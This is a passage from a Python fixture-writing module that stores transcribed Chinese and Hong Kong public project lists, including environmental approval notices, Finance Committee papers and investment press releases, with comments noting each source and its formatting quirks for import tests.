    "lists7_panjin_zone_decisions.csv": (LISTS7_PANJIN, "utf-8"),
    "lists7_anshan_names.csv": (LISTS7_ANSHAN, "utf-8"),
    "lists7_xining_trad_eia.csv": (LISTS7_XINING, "utf-8"),
    "lists7_miit_cities_2022.csv": (LISTS7_MIIT, "utf-8"),
}


def write_lists7() -> None:
    write_csvs(LISTS7_CSV)
    (HERE / "lists7_dawa_form.txt").write_bytes(LISTS7_DAWA.encode("utf-8"))
    _lists4_sheet(HERE / "lists7_sunite_acceptance.xlsx", "Sheet1", LISTS7_SUNITE)
    _lists4_sheet(HERE / "lists7_liaoning_masked_eia.xlsx", "Sheet1", LISTS7_LIAONING, ("A1:H1", "A2:H2"))


# ------------------------------------------------------------------------------ s30-lists8
# Real published lists, round 8 (issue 12): notices from provinces the corpus cited least (河南, 福建, 贵州, 云南,
# 天津, 湖南, 湖北, 重庆) and a ministry's numbered list, each transcribed as the stored copy of its page shows it
# (rows as published; traditional reposts kept traditional). None was cited in tests/ or data/ before. Tests in
# tests/test_import_lists8.py. Sources (publisher, date; what is odd about it):
#   lists8_weidong_eia.csv          (平顶山市卫东区环境保护局, 拟审批 2022-04-14; 行业类别 column, the total in
#     建设内容与规模)
#     https://weidong.gov.cn/contents/53152/23293.html
#   lists8_fuzhou_decisions.csv     (福州市生态环境局, 审批决定 2025-09-23..30, a repost in traditional;
#     項目名稱 | 文號 | 發文時間, the city only in the title) http://m.cc774.com/zwgk/zdlyxxgk/sthj/spgs/202509/t20250930_5085936.htm
#   lists8_guizhou_decisions.csv    (贵州省生态环境厅, 审批决定 2026-02/03; 文件名称 = 关于…的批复)
#     https://sthj.guizhou.gov.cn/zwgk/zdlyxx/fsjg/fslxmsphgg/202603/t20260305_89605157.html
#   lists8_yuanmou_decision.csv     (楚雄州生态环境局元谋分局, 2021-05-07, a repost in traditional; 文件名稱 = …的批復)
#     https://82380.cn/info/2013/30562.htm
#   lists8_dayao_decision.csv       (楚雄州生态环境局大姚分局, 2025-04-30, traditional; the project named in 備註)
#     https://dingdage.cn/info/egovinfo/1007/overt_centent/dyx012-/2025-0430001.htm
#   lists8_xiqing_masked_eia.csv    (天津市西青区行政审批局, 2026-01-06, a bid site's copy with **** masks)
#     https://www.qianlima.com/bid-568415272.html
#   lists8_hezuo_eia.csv            (甘南州生态环境局合作分局, 公示 2019-05-21..27; the dates as a range in a column)
#     http://sthj.gnzrmzf.gov.cn/info/1099/3347.htm
#   lists8_louxing_park_acceptance.csv (湖南省环境保护厅, 受理 2012-11-08; a park's planning EIA, 建设规模 in km²)
#     http://sthjt.hunan.gov.cn/sthjt/xxgk/xzgs/jsxm/hpgs/jsslgk/201211/t20121108_4698203.html
#   lists8_baotou_2018_acceptance.csv (包头市昆都仑区, 受理 2018-08-21, a repost in traditional; 建设单位 first)
#     http://spotifyripper.net/detail/cid/439/aid/26661
#   lists8_donghu_form.txt          (武汉东湖新技术开发区生态环境和水务湖泊局, 受理; label:value lines with
#     项目总投资(万元):40000) https://bbda.com/bidDetail/7b47e581120bdaf21d3f6e23efac9b6b1593e27c7ac51ce537209d111834986a.html
#   lists8_zhongxian_2019.txt       (重庆市政府办公厅 2019年市级重大项目, 忠县's 15 as a local paper lists them
#     in one sentence)
#     https://zgcxtc.cn/news/187937.html
#   lists8_west_2016_numbered.txt   (国家发展改革委, 2016年新开工西部大开发重点工程30项, a repost with emoji
#     after items)
#     https://www.jlmvip.com/news/detail.aspx?id=2000
#   lists8_zhengzhou_jkq_names.txt  (郑州经济技术开发区环境保护局; four names in one sentence)
#     https://public.zzjkq.gov.cn/D250302X/4717097.jhtml
#   lists8_zhongjiang_digits_lost.csv (中江县, 德阳, 2023-05-26, a repost in traditional that lost every digit:
#     公示期時間:個工作日, 項目總投資萬元) http://2982982.com/162/167/2023/05/26/92460112.html

LISTS8_WEIDONG = [
    ["平顶山市卫东区环境保护局"], ["关于2022年4月拟审批的建设项目的公示"],
    ["公示期:2022年4月14日—2022年4月18日。"],
    ["拟审批项目清单"],
    ["序号", "项目名称", "建设单位", "建设地点", "行业类别", "建设内容与规模", "环评单位"],
    ["1", "中国平煤神马集团天宏焦化有限公司清洁生产技术改造项目", "中国平煤神马集团天宏焦化有限公司", "平顶山市矿工路东段一号",  # noqa: E501
     "煤炭开采和洗选业 061 烟煤和无烟 煤开采洗选",
     "该项目位于平顶山市矿工路东段一号院内,占地面积为6500m2,总投资8200万元,其中环保投资860万元。项目在天宏焦化现有场地"
     "建设全密闭中煤再选车间、转运站、浓缩池等,项目完成后年洗选中煤120万吨(在天宏选煤生产线中增加一道回洗工序,原天宏选煤"
     "500万吨/年原煤入洗量不变,只增加了精煤回收率)", "清远市恒新环保技术有限公司"],
]

LISTS8_FUZHOU = [
    ["福州市生態環境局關于2025年9月23日-2025年9月30日作出的建設項目環境影響評價文件審批決定的公告"],
    ["根據建設項目環境影響評價審批程序的有關規定,經審查,2025年9月23日-2025年9月30日我局對8個建設項目環境影響評價文件作出"
     "審批決定。"],
    ["序號", "項目名稱", "文號", "發文時間"],
    ["1", "福州市三遠片區項目出讓地周邊配套道路工程", "榕環評〔2025〕45號", "2025-9-23"],
    ["2", "萬華化學(福建)有限公司異氰酸酯產業鏈配套36萬噸/年硝酸項目", "榕環評〔2025〕47號", "2025-9-23"],
    ["3", "福建福州晉安福飛110千伏變電站3號主變擴建工程", "榕環評〔2025〕48號", "2025-9-24"],
    ["4", "福清牛宅110kV輸變電工程", "榕環評〔2025〕49號", "2025-9-24"],
    ["5", "復旦大學附屬腫瘤醫院福建醫院項目二期 (福建省腫瘤醫院濱海院區一期)", "榕環評〔2025〕50號", "2025-9-25"],
    ["6", "福建康農醫藥科技有限責任公司年產生物新醫藥511.5噸、營養補充劑35噸項目", "榕環評〔2025〕51號", "2025-9-28"],
    ["7", "宏慶瀝青攪拌站項目", "榕環評〔2025〕52號", "2025-9-30"],
    ["8", "東南汽車城大道工程(榕泰酒店至大義小學段)", "榕環評〔2025〕53號", "2025-9-30"],
]

LISTS8_GUIZHOU = [
    ["作出的建设项目环境影响评价文件审批决定"],
    ["序号", "文件名称", "文号", "审批时间"],
    ["1", "贵州省生态环境厅关于贵州省六硐河甲江水电站~甲茶水电站220千伏线路工程建设项目环境影响报告表的批复",
     "黔环辐表[2026]17号", "2026年2月"],
    ["2", "贵州省生态环境厅关于贵阳长之琳发动机零部件制造有限公司X射线室内探伤应用搬迁项目环境影响报告表的批复",
     "黔环辐表[2026]18号", "2026年3月"],
    ["3", "贵州省生态环境厅关于金沙县电力构件生产项目220kV金官线#6~#12段迁改工程建设项目环境影响报告表的批复",
     "黔环辐表[2026]19号", "2026年3月"],
    ["4", "贵州省生态环境厅关于220千伏友山新材料科技(贵州)有限公司磷煤化工一体化项目供电线路工程建设项目环境影响报告表的批复",  # noqa: E501
     "黔环辐表[2026]20号", "2026年3月"],
]

LISTS8_YUANMOU = [
    ["根據建設項目環境影響評價審批程序有關規定,經審查,2021年4月我局對2個建設項目環境影響評價文件作出審批決定,現將作出的審批決定"
     "予以公告,公告期為7個工作日。"],
    ["序號", "文件名稱", "文號", "出文日期"],
    ["1", "川鐵建筑新材料(云南)有限公司年產50萬根預應力混凝土枕生產線及配套設施項目環境影響報告表的批復",
     "元環許準【2021】07號", "2021年4月17日"],
    ["楚雄彝族自治州生態環境局元謀分局"], ["2021年5月7日"],
]

LISTS8_DAYAO = [
    ["2025年4月30日,楚雄州生態環境局對大姚縣疾病預防控制中心實驗室提升改造建設項目環境影響評價文件作出審批決定。"],
    ["序號", "文件名稱", "文號", "出文日期", "備註"],
    ["1", "楚雄州生態環境局準予行政許可決定書", "楚環許準(2025)57號", "20250430",
     "大姚縣疾病預防控制中心實驗室提升改造建設項目環境影響報告表審批"],
]

LISTS8_XIQING = [
    ["****審批局關于對****公司覆膜生產項目環境影響報告表擬作出審批決定的公示"],
    ["發布日期:2026-01-06"],
    ["建设项目名称", "建设单位名称", "建设地点", "环评文件编制单位名称", "建设项目概况", "主要环境影响和环境保护对策与措施",  # noqa: E501
     "建设单位开展的公众参与情况", "公示起止日期"],
    ["****公司覆膜生产项目", "****公司", "**市**区张家窝镇张家窝工业区泰进路47-1号", "******公司",
     "****公司为一家主要从事覆膜装饰产品生产的内资企业。企业拟投资500万元租赁位于**区张家窝镇张家窝工业区泰进路47-1号权属于"
     "天****公司的厂房及厂院,购置相关生产及辅助设施,建设“****公司覆膜生产项目”,项目建成后年产覆膜装饰产品200万件。",
     "施工期 本项目租用已建成厂房,施工期仅进行设备安装、调试及少量厂房内部改造,无土建工程。", "", ""],
]

LISTS8_HEZUO = [
    ["根据建设项目环境影响评价审批程序的有关规定,经审议,我局拟对该建设项目环境影响评价文件作出准予批准意见。"],
    ["电话:0941-8218633 地址:甘南州合作市人民街80号"],
    ["序号", "项目名称", "建设地点", "建设单位", "环评机构", "公示日期"],
    ["1", "合作市答浪沟无主矿区土壤污染风险管控项目", "合作市答浪沟", "甘南藏族自治州生态环境局合作分局",
     "甘肃创新环境科技有限责任公司", "2019年5月21日—2019年5月27日"],
    ["注:公众可以通过电话和信函的方式发表对该项目的意见和建议"],
]

LISTS8_LOUXING = [
    ["<<娄星产业园区环境影响报告书>>受理情况"],
    ["2012年 11月8日,我厅受理<<娄星产业园区环境影响报告书>>。特此公告。"],
    ["项目名称", "建设地点", "建设单位", "建设规模", "受理日期"],
    ["娄星产业园区", "娄星区西部、华菱涟钢南面,湘黔铁路北面", "娄星产业园区管理会",
     "园区规划总面积6.85平方公里,四至范围为东依柳青路、南阳路、南抵湘黔铁路、西至高丰路、北至涟滨西街,主导产业定位为钢铁循环"
     "经济产业和机械制造业", "2012-11-8"],
    ["附:娄星区产业园环境影响报告简本.doc。注:本项目业主和环评机构对环评报告简本负责"],
]

LISTS8_BAOTOU = [
    ["根據建設項目環境影響評價審批程序的有關規定,我局共受理2個建設項目環境影響報告表,現將受理情況予以公示。公示期為2018年8月21日"
     "-2018年9月3日(10個工作日)。"],
    ["公示期間聯系電話(傳真):0472-5196162"],
    ["序號", "建設單位", "建設項目名稱", "建設地點", "建設內容"],
    ["1", "昆區團結辦事處", "社區衛生服務中心", "包頭市昆都侖區青年路17號街坊鑫泰豪庭小區底店",
     "項目總用地面積2289m2,全部為地上建筑,建設內容主要為住院門診樓,共2層,1層開展公共衛生服務管理,2層包括門診及病房。"],
    ["2", "包頭市博華醫院有限公司", "包頭博華醫院", "包頭市昆都侖區海德路與沼潭西路交叉口東北角",
     "項目總用地面積4000m2,全部為地上建筑,建設內容主要有門診樓住院樓和檢驗康復樓,其中門診住院樓共5層,其中1-2層為門診,3-5層"
     "為住院部。"],
]

LISTS8_DONGHU = (
    "项目代码:2503-42*开通会员可解锁*-789728\n"
    "项目名称:光谷实验中学片区功能提升项目\n"
    "建设内容及规模:本次提升拆除原有宿舍、食堂建筑及地面操场33496.00㎡。同时新增24个班级,提供1200个学"
    "位,本次提升项目总建筑面积64560.00㎡,新建综合教学楼、综合楼、阶梯活动室、游泳池及地下车库等。\n"
    "建设性质:扩建\n"
    "行业类别:社会事业/教育\n"
    "环境影响评价管理类别:环境影响报告表\n"
    "项目总投资(万元):40000\n"
    "环保投资(万元):190\n"
    "建设单位名称:武汉东湖新技术开发区教育局\n"
    "通讯地址:武汉市高新大道777号\n"
    "邮政编码:430074\n"
    "环评单位名称:湖北国和生态环境建设有限公司\n"
)

LISTS8_ZHONGXIAN = (
    "2019年,重庆市级重大项目包括年度建设项目和前期规划研究项目。年度建设项目743个,总投资约2.2万亿元,"
    "预计年度完成投资3459亿元;前期规划研究项目216个,总投资约1万亿元。\n"
    "忠县的15个项目预计年度完成投资32.45亿元,主要涉及新立、东溪、复兴、新生、乌杨等乡镇(街道)。这15个"
    "项目分别是重庆市忠县“三峡橘乡”田园综合体建设试点项目、忠县港区新生作业区一期工程、忠县新生疏港大"
    "道(G348果梁村至黄岭头段新改建工程)、忠县工业园区二期基础设施建设项目、忠县至石宝沿江快速通道项目"
    "、忠县废旧物资回收再利用项目、三峡港湾国际旅游度假区、上海极达空调设备有限公司专用空调生产项目、"
    "高端装备制造产业园项目、3D光学玻璃及显示触控全贴合生产项目、三一智能建筑产业基地项目、年产160万"
    "台一体机生产项目(一期)、忠县银山片区岸线环境综合治理工程、忠县忠州中学校迁建工程暨县体育中心、乌"
    "杨新区中学。\n"
)

LISTS8_WEST = (
    "据发改委网站12月18日消息,30项新开工重点工程分别是:(1)贵阳至南宁铁路👩🏽\u200d🔧,(2)重庆枢纽东环线🤫,("
    "3)川南城际铁路内江至自贡至泸州段👟,(4)重庆城口(陕渝界)至开县公路,(5)四川九寨沟至绵阳、仁寿至屏山"
    "新市公路,(6)云南昌宁至保山、景洪至打洛公路🕖,(7)陕西宝鸡至平坎🙆\u200d♀️、平利至镇坪🧑🏿\u200d🔧、绥德至延"
    "川公路,(8)京藏高速石嘴山至中宁段改扩建工程🥿🕺🏼,(9)包头至茂名高速公路包头至东胜段改扩建工程🧑🏽"
    "\u200d🏭,(10)新疆G7乌鲁木齐至大黄山🏃🏻\u200d➡️、G30乌鲁木齐至奎屯改扩建工程,(11)广西南宁经钦州至防城港高"
    "速公路改扩建工程👨🏽\u200d🎓🚶\u200d♀️,(12)广西西津枢纽二线船闸工程,(13)成都新机场工程,(14)贵阳机场三期扩"
    "建工程,(15)西部支线机场建设,(16)四川李家岩水库🕴,(17)贵州黄家湾水利枢纽👸,(18)云南柴石滩水库灌区,"
    "(19)广西左江治旱驮英水库及灌区🫕,(20)西部农村电网改造升级工程,(21)四川🧑\u200d🎄、西藏叶巴滩水电站,(2"
    "2)青海玛尔挡水电站,(23)四川硬梁包、金沙水电站🦧,(24)新疆准东新能源基地,(25)内蒙古包头🚴🏻\u200d♀️、乌"
    "海采煤沉陷区光伏领跑技术基地☂️,(26)陕京四线👩\u200d👦\u200d👦,(27)西三线中卫-靖边支干线,(28)准东~华东(皖南"
    ")±1100千伏特高压直流工程,(29)甘肃电投常乐电厂🧒🏽🧩,(30)兰石集团老工业基地改造提升项目🦶🏽。\n"
    "2000-2016年,西部大开发累计新开工重点工程300项,投资总额达63515亿元🏊\u200d♀️。\n"
)

LISTS8_ZZJKQ = (
    "根据建设项目环境影响评价审批程序的有关规定,经审议,我局拟对河南同和堂实业有限公司年产50吨预包装食"
    "品项目、郑州恒昊光学门窗工程技术有限公司年产100万平方米玻璃钢化生产线建设项目、河南俱成汽车零部"
    "件有限公司新增热洁炉建设项目、郑州翼宇汽车零部件有限公司年产300万件汽车内饰件项目环境影响评价文"
    "件作出审批意见。为保证审批意见的严肃性和公正性,现将建设项目环境影响评价文件的全文予以公示。\n"
    "郑州经济技术开发区环境保护局 联系电话:66782675\n"
)

LISTS8_ZHONGJIANG = [
    ["根據建設項目環境影響評價審批程序的有關規定,經審議,我局擬對個建設項目(四川西南建興建設工程有限公司 成綿高速擴容項目配套"  # noqa: E501
     "砂石加工場建設項目、中江縣新立編織廠塑料管生產線擴建項目)環境影響報告表作出批復決定。"],
    ["電話:- 地 址:中江縣凱江鎮一環路東段號政務服務中心環保窗口"],
    ["序號", "建設單位", "項目名稱", "建設地點", "環境影響評價機構", "項目概況",
     "主要環境影響及預防或者減輕不良環境影響的對策和措施"],
    ["", "四川西南建興建設工程有限公司", "成綿高速擴容項目配套砂石加工場建設項目", "中江縣富興鎮建興村",
     "貴州森益源環境咨詢有限公司",
     "項目位於富興鎮建興村,在京昆高速公路綿陽至成都段擴容項目臨時棄渣場,該地塊已在高速擴容項目環評時批復為臨時占用。項目占地"
     "面積約畝,新建廠房及安置設備,建設年生產砂石料.萬噸的生產線。項目總投資萬元,環保估算投資為.萬元。項目產品服務於京昆高速"
     "公路綿陽至成都段擴容項目道路建設使用,不外售。項目服務期滿(年),隨即拆除,並按照高速擴容項目棄渣場復墾方案進行生態恢復。",
     "一、施工"],
]

LISTS8_CSV = {  # file name -> (rows, encoding as the writer stores it)
    "lists8_weidong_eia.csv": (LISTS8_WEIDONG, "gbk"),
    "lists8_fuzhou_decisions.csv": (LISTS8_FUZHOU, "utf-8"),
    "lists8_guizhou_decisions.csv": (LISTS8_GUIZHOU, "utf-8-sig"),
    "lists8_yuanmou_decision.csv": (LISTS8_YUANMOU, "utf-8"),
    "lists8_dayao_decision.csv": (LISTS8_DAYAO, "utf-8"),
    "lists8_xiqing_masked_eia.csv": (LISTS8_XIQING, "utf-8"),
    "lists8_hezuo_eia.csv": (LISTS8_HEZUO, "gb18030"),
    "lists8_louxing_park_acceptance.csv": (LISTS8_LOUXING, "utf-8"),
    "lists8_baotou_2018_acceptance.csv": (LISTS8_BAOTOU, "utf-8"),
    "lists8_zhongjiang_digits_lost.csv": (LISTS8_ZHONGJIANG, "utf-8"),
}
LISTS8_TXT = {"lists8_donghu_form.txt": LISTS8_DONGHU, "lists8_zhongxian_2019.txt": LISTS8_ZHONGXIAN,
              "lists8_west_2016_numbered.txt": LISTS8_WEST, "lists8_zhengzhou_jkq_names.txt": LISTS8_ZZJKQ}


def write_lists8() -> None:
    write_csvs(LISTS8_CSV)
    for name, text in LISTS8_TXT.items():
        (HERE / name).write_bytes(text.encode("utf-8"))


# ------------------------------------------------------------------------------ s33-lists9
# Real published lists, round 9 (issue 12): tables WITH an amount, as far as the stored page openings hold any:
# 香港's Finance Committee papers (traditional; every amount in HK dollars as "元", written 4億9,160萬元 inside
# the recommendation's sentence), a 厦门 专项债 disclosure with its amounts masked, and press releases listing
# projects with their amounts (English, 台湾 in 新台币, reposts in traditional). None was cited in tests/ or data/
# before. Tests in tests/test_import_lists9.py. Sources (publisher, date; what is odd about it):
#   lists9_hk_fcr_1997_13.csv      (香港 財務委員會 FCR(97-98)13 附件1, 1997-06-13; no place column, the city is
#     the publisher's) https://www.legco.gov.hk/yr96-97/chinese/fc/fc/papers/fc130613.htm
#   lists9_hk_fcr_1997_65.csv      (FCR(97-98)65 附件, 1997-11-28; two projects in one row)
#     https://www.legco.gov.hk/yr97-98/chinese/fc/fc/papers/fc281165.htm
#   lists9_hk_fcr_1998_21.csv      (FCR(98-99)21 附件, 1998-07-31; 13億1,300萬元)
#     https://www.legco.gov.hk/yr98-99/chinese/fc/fc/papers/fc310721.htm
#   lists9_hk_fcr_1999_73.csv      (FCR(98-99)73 附件1, 1999-02-05; a raise: three amounts in one sentence)
#     https://legco.gov.hk/yr98-99/chinese/fc/fc/papers/fc050273.htm
#   lists9_hk_fcr_1999_28.csv      (FCR(1999-2000)28 附件1, 1999-07-02; a procedure in row 1, row 4 cut)
#     https://www.legco.gov.hk/yr98-99/chinese/fc/fc/papers/fc020728.htm
#   lists9_hk_fcr_1999_33.csv      (FCR(1999-2000)33 附件, 1999-07-09)
#     https://www.legco.gov.hk/yr98-99/chinese/fc/fc/papers/fc090733.htm
#   lists9_xiamen_bond_masked.csv  (厦门市 专项债券八期, a bid site's copy: the issue amounts masked by *)
#     https://maituobao.com/bidding/726bad92514b5525
#   lists9_hechi_signed_en.txt     (河池, Guangxi, signing ceremony 2020-09-24, English, five projects in prose)
#     https://chinaservicesinfo.com/s/202009/27/WS5f8150ab498eaba5051bbb43/hechi-attracts-1-45b-investment-from-gba-enterprises.html  # noqa: E501
#   lists9_yongxing_signed_en.txt  (永兴县, 郴州, 2017-11-23, English, four projects in prose)
#     http://866389.libg.asia/Investment/Updates/2017-11-29/13505.html
#   lists9_taiwan_rail_budget.txt  (台湾 行政院 前瞻軌道 第1期特別預算, three amounts in 新台币 in prose)
#     https://news.tvbs.com.tw/politics/744703?from=politics_extend
#   lists9_taiwan_invest_3.txt     (投資臺灣事務所, three companies approved, amounts in 新台币)
#     https://udn.com/news/story/7240/9284603
#   lists9_xuzhou_jkq_signed.txt   (徐州经开区 云签约 2020-04-25, a repost in traditional; two projects named)
#     http://025250.cn/show.asp?id=4845
#   lists9_wuhu_named.txt          (芜湖 三山/江北, six projects with their totals in one paragraph)
#     http://45.113.194.42/p/7715466226?pid=143063909797
#   lists9_lingang_2025_signed.txt (上海临港新片区 2025-02-20 集中签约, two named with amounts, 中新社)
#     http://vcaptcha.com/xieshu/Ce2w.html

_FCR_HEAD = ["工程計劃編號", "工程計劃說明", "建議"]
LISTS9_HK_1997_13 = [
    ["FCR(97-98)13"], ["財務委員會討論文件"], ["一九九七年六月十三日"], ["工務小組委員會有關非機場核心計劃的建議"],
    ["附件1 FCR(97-98)13"], ["工務小組委員會"], ["一九九七年五月九日會議上所提出建議的摘要"],
    _FCR_HEAD,
    ["205WF PWSC(97-98)10 (總目709)", "連接北角及中區跨海水管食水供應區合併工程 ─ 餘下工程",
     "向財務委員會建議,把205WF號工程計劃提升為甲級;按付款當日價格計算,估計費用為9,130萬元。"],
    ["59CD PWSC(97-98)11 (總目704)", "西九龍雨水排放系統改善計劃 ─ 第1、第2及第3階段",
     "向財務委員會建議 ─ (a) 把59CD 號工程計劃的一部分提升為甲級,編訂為 89CD 號工程計劃,稱為「西九龍雨水排放系統改善"
     "計劃第1階段工程」;按付款當日價格計算,估計費用為 4 億6,400萬元;以及 (b) 把59CD 號工程計劃的餘下部分保留為乙級,"
     "改稱為「西九龍雨水排放系統改善計劃第2及第3階 段」。"],
    ["123SC PWSC(97-98)12 (總目703)", "把海棠路男童院遷往沙田第64區",
     "向財務委員會建議,把123SC號工程計劃提升為甲級;按付款當日價格計算,估計費用為1億810萬元,用以把海棠路男童院遷往沙田"
     "第64區重建。"],
    ["55CD PWSC(97-98)13 (總目704)", "本港地面排水系統及防洪策略研究 第III期",
     "向財務委員會建議,把 55CD 號工程計劃提升為甲級,改稱為「新界北部雨水排放整體計劃研究」;按付款當日價格計算,估計費用"
     "為3,730萬元。"],
]
LISTS9_HK_1997_65 = [
    ["FCR(97-98)65"], ["財務委員會討論文件"], ["1997年11月28日"],
    ["工務小組委員會有關工務計劃和以非經常資助金進行的工程計劃的建議"], ["FCR(97-98)65附件"], ["工務小組委員會"],
    ["1997年11月4日會議上所提出建議的摘要"],
    _FCR_HEAD,
    ["455CL PWSC(97-98)54 (總目707)", "元朗綜合食品批發市場的地盤平整工程",
     "向財務委員會建議- (a)把455CL號工程計劃的一部分提升為甲級,編訂為489CL號工程計劃,稱為「元朗綜合食品批發市場-地盤"
     "平整工程」;按付款當日價格計算,估計費用為3,190萬元,用以提供土地,供發展綜合食品批發市場之用;以及 (b)把455CL號工程"
     "計劃的餘下部分保留為乙級,改稱為「元朗綜合食品批發市場-道路及橋樑工程」。"],
    ["228EP PWSC(97-98)55 (總目703) 237EP PWSC(97-98)55 (總目703)", "天水圍第3區的1所小學 天水圍第3區的第二所小學",
     "向財務委員會建議把228 EP和 237EP兩項工程計劃提升為甲級;按付款當日價格計算,估計費用為1億5,330萬元,用以在天水圍"
     "第3區興建兩所小學。"],
    ["29WS PWSC(97-98)56 (總目709)", "荃灣及葵涌海水供應系統改善工程",
     "向財務委員會建議把29WS號工程計劃提升為甲級;按付款當日價格計算,估計費用為 3 億2,140萬元,用以在荃灣和葵涌區敷設新鹹"
     "水管和更換老化的鹹水管。"],
]
LISTS9_HK_1998_21 = [
    ["FCR(98-99)21"], ["財務委員會討論文件"], ["1998年7月31日"],
    ["工務小組委員會有關工務計劃和以非經常資助金進行的工程計劃的建議"], ["FCR(98-99)21附件"], ["工務小組委員會"],
    ["1998年7月22日會議上所提建議的摘要"],
    _FCR_HEAD,
    ["27LJ PWSC(98-99)2 (總目703)", "粉嶺裁判法院大樓",
     "向財務委員會建議,把27LJ號工程計劃提升為甲級;按付款當日價格計算,估計費用為4億9,160萬元,用以興建新的粉嶺裁判法院"
     "大樓。"],
    ["210DS PWSC(98-99)5 (總目704)", "川龍污水收集系統",
     "向財務委員會建議- 1. 把210DS號工程計劃的一部分提升為甲級,編定為216DS號工程計劃,稱為「川龍污水收集系統第1階段工程」"  # noqa: E501
     ";按付款當日價格計算,估計費用為2,440萬元;以及 2. 把210DS號工程計劃的餘下部分保留為乙級。"],
    ["577TH PWSC(98-99)7 (總目706)", "薄扶林道與沙宣道交界的交匯處",
     "向財務委員會建議,把577TH號工程計劃提升為甲級;按付款當日價格計算,估計費用為4億9,160萬元,用以在薄扶林道與沙宣道交界"
     "進行改善工程。"],
    ["67MC PWSC(98-99)10 (總目703)", "公共衞生化驗大樓",
     "向財務委員會建議,把67MC號工程計劃提升為甲級;按付款當日價格計算,估計費用為13億1,300萬元,用以在九龍石硤尾興建一座"
     "公共衞生化驗大樓。"],
]
LISTS9_HK_1999_73 = [
    ["FCR(98-99)73"], ["財務委員會討論文件"], ["1999年2月5日"],
    ["工務小組委員會有關工務計劃和以非經常資助金進行的工程計劃的建議"], ["FCR(98-99)73附件1"], ["工務小組委員會"],
    ["1999年1月20日會議上所提建議的摘要"],
    _FCR_HEAD,
    ["B196EP PWSC(98-99)56 (總目711)", "天水圍第 105 區的1所小學",
     "向財務委員會建議,把B196EP號工程計劃的核准預算費提高3,220萬元,即由8,130萬元增至1億1,350萬元(按付款當日價格計算),"
     "俾能增設設施,以符合小學的最新設計。"],
    ["259EP PWSC(98-99)57 (總目703)", "東涌第31區的1所小學",
     "向財務委員會建議,把259EP號工程計劃提升為甲級;按付款當日價格計算,估計費用為1億1,990萬元,用以在東涌第31區興建一所"
     "設有30間課室的小學。"],
    ["234LP PWSC(98-99)59 (總目703)", "灣仔軍器廠街警察總部重建計劃 ( 軍器廠街警察總部範圍第3期發展計劃)",
     "向財務委員會建議- 1. 把234LP號工程計劃的一部分提升為甲級,編定為236LP號工程計劃,稱為「灣仔軍器廠街警察總部重建計劃"
     "(軍器廠街警察總部範圍第3期發展計劃)-第1階段」;按付款當日價格計算,估計費用為4,510萬元;以及 2. 把234LP號工程計劃的"
     "餘下部分保留為乙級,改稱為「灣仔軍器廠街警察總部重建計劃(軍器廠街警察總部範圍第3期發展計劃)-第2階段」。"],
]
LISTS9_HK_1999_28 = [
    ["FCR(1999-2000)28"], ["財務委員會討論文件"], ["1999年7月2日"],
    ["工務小組委員會有關工務計劃和以非經常資助金進行的工程計劃的建議"], ["FCR(1999-2000)28附件1"], ["工務小組委員會"],
    ["1999年6月16日會議上所提建議的摘要"],
    _FCR_HEAD,
    ["PWSC(1999-2000)40", "工務小組委員會會議程序", "向財務委員會建議,批准工務小組委員會會議程序的修訂建議。"],
    ["695TH PWSC(1999-2000)41 (總目706)", "火炭路擴闊工程及於火炭進行的相關改善工程",
     "向財務委員會建議,把695TH號工程計劃提升為甲級;按付款當日價格計算,估計費用為5億3,020萬元,用以進行火炭路擴闊工程和"
     "在火炭進行相關的改善工程。"],
    ["29CD PWSC(1999-2000)45 (總目707)", "牛潭尾的主要排水",
     "向財務委員會建議- 1. 把29CD號工程計劃的一部分提升為甲級,編定為100CD號工程計劃,稱為「牛潭尾的主要排水道第1期 - "
     "攸美新村至大生圍段」;按付款當日價格計算,估計費用為 4億4,250萬元;以 2. 把29CD號工程計劃的餘下部分保留為乙級,改稱為"
     "「牛潭尾的主要排水道第2期 - 牛潭尾至攸美新村段」。"],
    ["233EP PWSC(1999-2000)48 (總目703)", "黃埔花園的第四所小學",
     "向財務委員會建議,把233EP號工程計劃提升為甲級;按付款當日價格計算,估計費用為9,110萬元,用以在黃埔花園興建一所設有"
     "24間課室的"],
]
LISTS9_HK_1999_33 = [
    ["FCR(1999-2000)33"], ["財務委員會討論文件"], ["1999年7月9日"],
    ["工務小組委員會有關工務計劃和以非經常資助金進行的工程計劃的建議"], ["FCR(1999-2000)33附件"], ["工務小組委員會"],
    ["1999年6月23日會議上所提建議的摘要"],
    _FCR_HEAD,
    ["566CL PWSC(1999-2000)46 (總目711)", "安達臣道發展計劃",
     "向財務委員會建議- 1. 把566CL號工程計劃的一部分提升為甲級,編定為B568CL號工程計劃,稱為「安達臣道發展計劃 - 顧問費及"
     "工地勘測」;按付款當日價格計算,估計費用為5,750萬元;以及 2. 把566CL號工程計劃的餘下部分保留為乙級。"],
    ["564CL PWSC(1999-2000)47 (總目711)", "彩雲道及佐敦谷毗鄰的發展計劃",
     "向財務委員會建議- 1. 把564CL號工程計劃的一部分提升為甲級,編定為B569CL號工程計劃,稱為「彩雲道及佐敦谷毗鄰的發展計劃 -"  # noqa: E501
     " 顧問費及工地勘測」;按付款當日價格計算,估計費用為4,370萬元;以及 2. 把564CL號工程計劃的餘下部分保留為乙級。"],
]
LISTS9_XIAMEN = [
    ["债券名称", "****年厦门市专项债券八期(普通专项债)", "债券简称", "**厦门市*****普通"],
    ["债券编码", "******", "区划", "厦门市"],
    ["按债券性质分", "新增", "按债券类型分", "专项"],
    ["官方项目类型", "普通", "发行金额(亿元)", "*.**"],
    ["发行日期", "****-**-**", "发行场所", "深圳证券交易所"],
    ["序号", "项目名称", "本次发行额", "地市", "区县", "项目领域"],
    ["*", "厦门市翔安粮库三期工程", "*****", "厦门市", "翔安区", "城乡冷链等物流基础设施"],
    ["*", "凯旋农贸市场翻建项目", "***", "厦门市", "思明区", "城乡冷链等物流基础设施"],
]
LISTS9_HECHI = (
    "Hechi signed five contracted projects, with a total investment of 9.88 billion yuan ($1.45 billion), with "
    "enterprises from the Guangdong-Hong Kong-Macao Greater Bay Area at a promotion conference and signing ceremony "
    "held on Sept 24.\n"
    "Among the contracted projects, one was signed at the main venue of Shenzhen, namely the Poverty Alleviation and "
    "Resettlement Employment Comprehensive Market Project in Donglan county, with a total investment of 5 billion "
    "yuan.\n"
    "The other four projects were signed online, with a total investment of 4.88 billion yuan, including the tourism "
    "complex project in Yizhou district, which has an investment of 1.2 billion yuan, the Hongshui River Lijing "
    "Business Travel City project in Tian'e county, which has an investment of 1.5 billion yuan, the composite "
    "environmental protection new materials project in Du\u2019an Yao autonomous county, which has an investment of "
    "1.65 billion yuan and is expected to have an annual output of 3 million tons, as well as the big data industrial "
